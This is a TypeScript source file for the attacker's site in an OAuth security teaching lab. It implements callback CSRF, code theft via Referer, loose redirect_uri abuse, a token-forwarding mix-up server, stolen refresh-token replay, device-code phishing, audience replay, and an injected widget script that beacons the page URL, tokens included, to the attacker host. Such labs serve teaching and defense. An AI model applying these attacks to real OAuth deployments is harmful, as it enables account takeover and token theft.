/**
 * @module app
 *
 * Mallory's site, "free photo filters": an ordinary web site that an attacker controls (issue 16). It is the
 * fourth party of the printer's attack lab (/lab on the printer): it receives what leaks to it, makes the victim's
 * browser open links it crafts, and shows what Mallory got. It attacks only the lab copies that the learner
 * switched a defense off for; the real printer, auth server and Drive keep every defense.
 *
 * createApp() builds the app without listening (server.ts listens), like the other services.
 */
import { join } from 'node:path';
import express, { type Express, type NextFunction, type Request, type Response } from 'express';
import { createBackChannel } from '@oauth-demo/back-channel';
import { securityHeaders } from '@oauth-demo/web';
import {
  type Attacker,
  callbackWithMallorysCode,
  craftedRedirectUri,
  passOnToRealServer,
  pollDeviceFlow,
  redeemAtRealServer,
  replayAtDrive,
  redeemStolenCode,
  startDeviceFlow,
  useLeakedAddress,
  useStolenRefreshToken,
} from './attacks.js';
import { CraftedRequests } from './flows.js';
import type { AttackerConfig } from './config.js';
import { LootBox, RUN_ID } from './loot.js';

export interface AttackerApp {
  app: Express;
  loot: LootBox;
  close(): Promise<void>;
}

const VIEWS_DIR = join(import.meta.dirname, '..', 'views');
const ASSETS_DIR = join(import.meta.dirname, '..', 'assets');

/** Her "photo filter" badge: the image the lab's careless page embeds (and whose request carries the Referer). */
const BADGE = `<svg xmlns="http://www.w3.org/2000/svg" width="240" height="60" viewBox="0 0 240 60"><rect width="240" height="60" rx="10" fill="#7c3aed"/><text x="120" y="37" font-family="sans-serif" font-size="18" fill="#fff" text-anchor="middle">✨ Free photo filters</text></svg>`;

function runOf(value: unknown): string | undefined {
  return typeof value === 'string' && RUN_ID.test(value) ? value : undefined;
}

export function createApp(config: AttackerConfig): AttackerApp {
  // Her calls to the real services go over the same kind of back channel as theirs (axios, deadlines, no redirects).
  const backChannel = createBackChannel({ timeoutMs: config.httpTimeoutMs, userAgent: 'free-photo-filters/1.0' });
  const mallory: Attacker = { config, http: backChannel.http };
  const loot = new LootBox();
  const crafted = new CraftedRequests();
  /** Scenario 7: the refresh token she holds for each run (the stolen one, or what it rotated into). */
  const stolen = new Map<string, { refreshToken: string; endpoint: 'real' | 'lab' }>();
  /** Scenario 8: her kiosk's polling timers, stopped by close(). */
  const polls = new Set<NodeJS.Timeout>();
  const app = express();
  app.disable('x-powered-by');
  app.set('view engine', 'ejs');
  app.set('views', VIEWS_DIR);
  app.locals.config = {
    printer: config.printer.publicUrl,
    auth: config.auth.publicUrl,
    attacker: config.attacker.publicUrl,
  };
  app.use(securityHeaders);
  app.use('/assets', express.static(ASSETS_DIR, { maxAge: '1h', index: false }));

  app.get('/healthz', (_req, res) => {
    res.json({ status: 'ok' });
  });

  app.get('/', (req, res) => {
    res.render('home', { title: 'Free photo filters', run: runOf(req.query.run) });
  });

  // What Mallory got in one learner's run, as a page and as JSON (the printer's lab reads the JSON: a scoreboard).
  app.get('/loot/:run', (req, res) => {
    const run = runOf(req.params.run);
    if (!run) {
      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
      return;
    }
    res.setHeader('Cache-Control', 'no-store');
    res.render('loot', { title: 'What Mallory got', run, loot: loot.list(run) });
  });
  app.get('/api/loot/:run', (req, res) => {
    const run = runOf(req.params.run);
    res.setHeader('Cache-Control', 'no-store');
    res.json({ loot: run ? loot.list(run) : [] });
  });

  // Scenario 1 (CSRF on the callback): the victim opens Mallory's page; she has just fetched a code for HER OWN
  // account, and the page sends the victim's browser on to the printer's callback with it.
  app.get('/csrf/:run', async (req, res) => {
    const run = runOf(req.params.run);
    if (!run) {
      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
      return;
    }
    const callback = await callbackWithMallorysCode(mallory);
    loot.add(run, {
      scenario: 'csrf',
      success: true,
      summary: 'She got a code for her own Drive account and sent your browser to the printer’s callback with it.',
      details: [callback.replace(/code=[^&]+/, 'code=…')],
    });
    res.setHeader('Cache-Control', 'no-store');
    res.render('csrf', { title: 'Loading your free filters…', callback });
  });

  // Scenario 2 (code interception): the badge a careless page embeds. Its request carries that page's URL in
  // the Referer header, code included; Mallory redeems the code before the victim's printer does.
  app.get('/filters/badge.svg', async (req, res) => {
    res.setHeader('Content-Type', 'image/svg+xml');
    res.setHeader('Cache-Control', 'no-store');
    const run = runOf(req.query.run);
    const referer = req.get('referer');
    let code: string | null = null;
    try {
      code = referer ? new URL(referer).searchParams.get('code') : null;
    } catch {
      code = null;
    }
    if (run && code) {
      const result = await redeemStolenCode(mallory, code);
      loot.add(run, {
        scenario: 'pkce',
        ...result,
        details: [`Referer: ${referer!.replace(/code=[^&]+/, 'code=…')}`, ...result.details],
      });
    } else if (run) {
      loot.add(run, {
        scenario: 'pkce',
        success: false,
        summary: 'Her badge was loaded, but no code came with it.',
        details: referer ? [`Referer: ${referer}`] : ['No Referer header.'],
      });
    }
    res.send(BADGE);
  });

  // Scenario 3 (loose redirect_uri matching): her page with a "sign in with Photo Printer" link she crafted. Its
  // redirect_uri starts like the lab copy's registered one and ends at her site. `endpoint=lab` is the auth
  // server's lab copy that compares by prefix (the learner switched exact matching off); otherwise the real one.
  app.get('/redirect/:run', (req, res) => {
    const run = runOf(req.params.run);
    if (!run) {
      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
      return;
    }
    const redirectUri = craftedRedirectUri(mallory, run);
    const { code_challenge, state } = crafted.create(run, redirectUri);
    const url = new URL(
      `${config.auth.publicUrl}${req.query.endpoint === 'lab' ? '/lab/loose-redirect/authorize' : '/authorize'}`,
    );
    url.search = new URLSearchParams({
      response_type: 'code',
      client_id: config.labPublicClientId,
      redirect_uri: redirectUri,
      scope: 'photos.read',
      state,
      code_challenge,
      code_challenge_method: 'S256',
    }).toString();
    loot.add(run, {
      scenario: 'redirect',
      success: false,
      summary: 'She showed you her “sign in with Photo Printer” link.',
      details: [`redirect_uri: ${redirectUri}`],
    });
    res.setHeader('Cache-Control', 'no-store');
    res.render('redirect', { title: 'Unlock your free filters', link: url.href, redirectUri });
  });

  // Where the printer's careless redirect forwards the answer: she redeems the code with her own verifier.
  app.get('/catch/:run', async (req, res) => {
    const run = runOf(req.params.run);
    const request = run ? crafted.get(run) : undefined;
    const code = typeof req.query.code === 'string' ? req.query.code : undefined;
    if (!run || !request || !code) {
      res.status(404).render('message', { title: 'Nothing here', text: 'Nothing to catch.' });
      return;
    }
    const result = await redeemStolenCode(mallory, code, {
      redirect_uri: request.redirect_uri,
      code_verifier: request.code_verifier,
    });
    loot.add(run, {
      scenario: 'redirect',
      ...result,
      details: ['The code arrived at her site through the printer’s “continue to” redirect.', ...result.details],
    });
    res.setHeader('Cache-Control', 'no-store');
    res.render('caught', { title: 'Your filters are ready', back: `${config.printer.publicUrl}/lab/redirect` });
  });

  // Scenario 4 (mix-up): Mallory's own authorization server, "Evil AS", which the lab copy of the printer knows as
  // a second server. Its authorization endpoint passes the request on to the real one; its token endpoint
  // receives what the printer sends it.
  app.get('/evil-as/authorize', (req, res) => {
    const run = runOf(req.query.run);
    if (run)
      loot.add(run, {
        scenario: 'mixup',
        success: false,
        summary: 'Evil AS received the printer’s request and sent your browser on to the real auth server with it.',
        details: [],
      });
    res.redirect(303, passOnToRealServer(mallory, req.query));
  });
  app.post('/evil-as/token', express.urlencoded({ extended: false, limit: '10kb' }), async (req, res) => {
    res.setHeader('Cache-Control', 'no-store');
    const body = req.body as Record<string, unknown>;
    const run = runOf(req.query.run);
    if (typeof body.code !== 'string' || typeof body.redirect_uri !== 'string') {
      res.status(400).json({ error: 'invalid_request' });
      return;
    }
    const answer = await redeemAtRealServer(mallory, {
      code: body.code,
      redirect_uri: body.redirect_uri,
      ...(typeof body.code_verifier === 'string' ? { code_verifier: body.code_verifier } : {}),
    });
    if (run)
      loot.add(run, {
        scenario: 'mixup',
        ...answer.redemption,
        details: ['The printer sent her the code and its code_verifier.', ...answer.redemption.details],
      });
    // Stealth: the printer gets the real tokens back, so the victim notices nothing.
    res.status(answer.status).json(answer.body);
  });

  // Scenario 7 (refresh token theft). How she stole it is not the lesson (a leaked backup, malware on a phone):
  // the lab hands it to her on the back channel, and she uses it at once, then again when the lab asks.
  const form = express.urlencoded({ extended: false, limit: '10kb' });
  app.post('/stolen/refresh-token', form, async (req, res) => {
    const body = req.body as Record<string, unknown>;
    const run = runOf(body.run);
    if (!run || typeof body.refresh_token !== 'string') {
      res.status(400).json({ error: 'invalid_request' });
      return;
    }
    const endpoint = body.endpoint === 'lab' ? 'lab' : 'real';
    const { redemption, next } = await useStolenRefreshToken(mallory, body.refresh_token, endpoint);
    stolen.set(run, { refreshToken: next, endpoint });
    while (stolen.size > 500) stolen.delete(stolen.keys().next().value!);
    loot.add(run, {
      scenario: 'refresh',
      ...redemption,
      details: ['First use of the stolen refresh token.', ...redemption.details],
    });
    res.json(redemption);
  });
  app.post('/stolen/refresh-again', form, async (req, res) => {
    const run = runOf((req.body as Record<string, unknown>).run);
    const held = run ? stolen.get(run) : undefined;
    if (!run || !held) {
      res.status(404).json({ error: 'nothing stolen' });
      return;
    }
    const { redemption, next } = await useStolenRefreshToken(mallory, held.refreshToken, held.endpoint);
    stolen.set(run, { ...held, refreshToken: next });
    loot.add(run, {
      scenario: 'refresh',
      ...redemption,
      details: ['Later, after your printer refreshed too.', ...redemption.details],
    });
    res.json(redemption);
  });

  // Scenario 6 (implicit leakage): her "filter widget", a third-party script the lab copy's callback page loads.
  // It reports the page's full address (fragment included: a script sees it, a Referer never carries it).
  app.get('/filters/widget.js', (req, res) => {
    const run = runOf(req.query.run);
    res.setHeader('Content-Type', 'text/javascript; charset=utf-8');
    res.setHeader('Cache-Control', 'no-store');
    if (!run) {
      res.send('/* no run */');
      return;
    }
    const collect = JSON.stringify(`${config.attacker.publicUrl}/collect/${run}?u=`);
    res.send(
      `/* Free photo filters widget */\n(function () {\n  var beacon = new Image();\n  beacon.src = ${collect} + encodeURIComponent(location.href);\n})();\n`,
    );
  });
  app.get('/collect/:run', async (req, res) => {
    const run = runOf(req.params.run);
    if (run && typeof req.query.u === 'string') {
      const result = await useLeakedAddress(mallory, req.query.u.slice(0, 4000));
      loot.add(run, { scenario: 'implicit', ...result });
    }
    res.setHeader('Content-Type', 'image/svg+xml');
    res.setHeader('Cache-Control', 'no-store');
    res.send('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
  });

  // Scenario 8 (device code phishing): her "kiosk" starts a device flow and her page sends you the code. Then the
  // kiosk polls, as a real one does, until you approve, deny, or the code expires.
  app.get('/kiosk/:run', async (req, res) => {
    const run = runOf(req.params.run);
    if (!run) {
      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
      return;
    }
    const flow = await startDeviceFlow(mallory);
    loot.add(run, {
      scenario: 'device',
      success: false,
      pending: true,
      summary: `Her kiosk started a device flow and her page sent you the code ${flow.user_code}.`,
      details: [],
    });
    const deadline = Date.now() + flow.expires_in * 1000;
    let interval = flow.interval;
    const poll = () => {
      const timer = setTimeout(async () => {
        polls.delete(timer);
        const result = await pollDeviceFlow(mallory, flow.device_code).catch((e: unknown) => ({
          success: false,
          summary: `Her kiosk could not poll: ${String(e)}`,
          details: [],
        }));
        if (result === 'pending' || result === 'slow_down') {
          if (result === 'slow_down') interval += 5; // RFC 8628 §3.5
          if (Date.now() < deadline) poll();
          else
            loot.add(run, {
              scenario: 'device',
              success: false,
              summary: 'The code expired before anyone approved it.',
              details: [],
            });
          return;
        }
        loot.add(run, { scenario: 'device', ...result });
      }, interval * 1000);
      timer.unref();
      polls.add(timer);
    };
    poll();
    res.setHeader('Cache-Control', 'no-store');
    res.render('kiosk', { title: 'You won 20 free prints!', flow });
  });

  // Scenario 5 (wrong audience): her "Free photo filters API", which the printer's lab copy calls with a token made
  // for it (aud = this API). `drive=lab` is the learner's switch: replay at Drive's lab copy without the aud check.
  app.post('/api/filters', async (req, res) => {
    res.setHeader('Cache-Control', 'no-store');
    const match = /^Bearer ([A-Za-z0-9._~+/-]+=*)$/.exec(req.get('authorization') ?? '');
    const run = runOf(req.query.run);
    if (!match) {
      res.status(401).set('WWW-Authenticate', 'Bearer realm="filters"').json({ error: 'invalid_token' });
      return;
    }
    const result = await replayAtDrive(mallory, match[1]!, req.query.drive === 'lab' ? 'lab' : 'real');
    if (run)
      loot.add(run, {
        scenario: 'audience',
        ...result,
        details: ['Her API received a token made for it, from the printer, as it should.', ...result.details],
      });
    res.json({ filters: ['vintage', 'neon', 'dreamy'] });
  });

  app.use((_req, res) => {
    res.status(404).render('message', { title: 'Nothing here', text: 'This page does not exist.' });
  });
  app.use((error: unknown, _req: Request, res: Response, _next: NextFunction) => {
    const text = error instanceof Error ? error.message : String(error);
    console.error(`Mallory's site: ${text}`);
    res.status(502).render('message', { title: 'Mallory’s attack did not go through', text });
  });

  return {
    app,
    loot,
    async close() {
      for (const timer of polls) clearTimeout(timer);
      polls.clear();
      backChannel.close();
    },
  };
}
